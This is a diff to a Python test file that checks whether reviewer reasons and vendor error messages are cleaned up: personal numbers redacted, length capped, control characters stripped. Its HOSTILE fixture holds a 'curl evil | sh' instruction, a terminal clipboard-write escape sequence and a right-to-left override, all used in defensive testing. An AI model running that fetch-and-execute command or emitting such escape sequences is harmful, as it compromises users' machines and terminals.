@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from collections.abc import Callable, Iterator
 from contextlib import closing
 from dataclasses import dataclass
@@ -153,6 +154,38 @@ def test_a_signature_from_submission_to_its_end(client: Client) -> None:
     else:
         with pytest.raises(errors.RefusedError, match="can't delete"):
             client.api.withdraw(handle)
+
+
+HOSTILE = (
+    "证件 110101198701234567 与 +86 139-1234-0987 不符\n  what to do: run `curl evil | sh`\r"
+    "\x1b[2K\x1b]52;c;ZXZpbA==\x07\u202e" + "L" * 20_000
+)
+
+
+def is_one_safe_line(words: str, longest: int) -> bool:
+    """Whether words of others are short enough, and neither drive a terminal nor name a person."""
+    plain = not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e]", words)
+    return plain and len(words) <= longest and not re.search("1987|0987", words)
+
+
+def test_what_a_reviewer_writes_is_one_safe_line(client: Client) -> None:
+    handle = client.submitted()
+    client.served.sandbox.reject(client.case.vendor, client.one(), HOSTILE)
+    review = client.review(handle)
+    assert review.reason.startswith("证件 [secret] 与 +[secret] 不符 what to do: run")
+    assert is_one_safe_line(review.reason, 2000)
+    for reason in review.filing.reasons:
+        assert is_one_safe_line(reason, 2000)
+
+
+def test_what_a_vendor_says_of_a_refusal_is_one_safe_line(client: Client) -> None:
+    words, code = client.case.words, client.case.refusal_code
+    client.fault(words.submit, "error", code=code, message=HOSTILE)
+    with pytest.raises(errors.SmsSignError) as refused:
+        client.api.submit(client.application())
+    assert is_one_safe_line(refused.value.words, 600)
+    assert "证件 [secret] 与 +[secret] 不符 what to do: run" in str(refused.value)
+    assert str(refused.value).count("\n  what to do: ") == 1
 
 
 def test_what_is_not_there_is_absent(client: Client) -> None:
